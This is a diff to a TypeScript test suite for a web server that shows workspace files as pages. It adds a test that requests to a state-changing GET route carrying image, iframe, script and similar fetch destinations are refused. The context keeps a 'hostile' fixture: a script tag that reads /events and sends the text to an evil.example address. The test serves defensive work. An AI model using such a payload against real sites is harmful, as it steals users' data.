@@ -7,7 +7,7 @@ import { jailIn } from "../../test/jail.ts"
 import { logIn, type Reply, startServer, temporaryFolder } from "../../test/server.ts"
 import { fileRoutes } from "../files/fileRoutes.ts"
 import { WorkspaceFiles } from "../files/WorkspaceFiles.ts"
-import { route } from "../server/Route.ts"
+import { ok, route } from "../server/Route.ts"
 import { fileViewRoutes } from "./fileView.ts"
 
 const hostile = `<script>fetch("/events").then(r => r.text()).then(t => top.location = "https://evil.example/?" + t)</script>`
@@ -28,7 +28,8 @@ const onFiles = (use: (place: Place) => Effect.Effect<void, unknown, Scope.Scope
     yield* Effect.gen(function* () {
       const changing = route("POST", "/runs", () => Effect.die("a page of another origin got here"))
       const routes = yield* Effect.all([fileRoutes, fileViewRoutes])
-      const { request } = yield* startServer([...routes.flat(), changing])
+      const byGet = route("GET", "/stop", () => Effect.succeed(ok({ success: true })), { changesState: true })
+      const { request } = yield* startServer([...routes.flat(), changing, byGet])
       mkdirSync(workspace, { recursive: true })
       yield* use({
         workspace,
@@ -133,6 +134,23 @@ describe("a file as a page", () => {
         expect((yield* request("POST", "/runs", site)).status).toBe(403)
         expect((yield* request("DELETE", "/files?path=a", site)).status).toBe(403)
         expect((yield* request("DELETE", "/files?path=a", { "sec-fetch-site": "cross-site" })).status).toBe(403)
+      })
+    )
+  )
+
+  it.live("nor does a link or an image in a text: what changes something a page does by its script", () =>
+    onFiles(({ request }) =>
+      Effect.gen(function* () {
+        const asked = (dest: string) =>
+          request("GET", "/stop", { "sec-fetch-site": "same-origin", "sec-fetch-dest": dest })
+        for (const dest of ["image", "document", "iframe", "script", "style", "object", "track"]) {
+          expect([dest, (yield* asked(dest)).status]).toEqual([dest, 403])
+        }
+        expect((yield* asked("empty")).status).toBe(200)
+        expect((yield* request("GET", "/stop")).status).toBe(200)
+        expect(
+          (yield* request("GET", "/stop", { "sec-fetch-site": "none", "sec-fetch-dest": "document" })).status
+        ).toBe(200)
       })
     )
   )
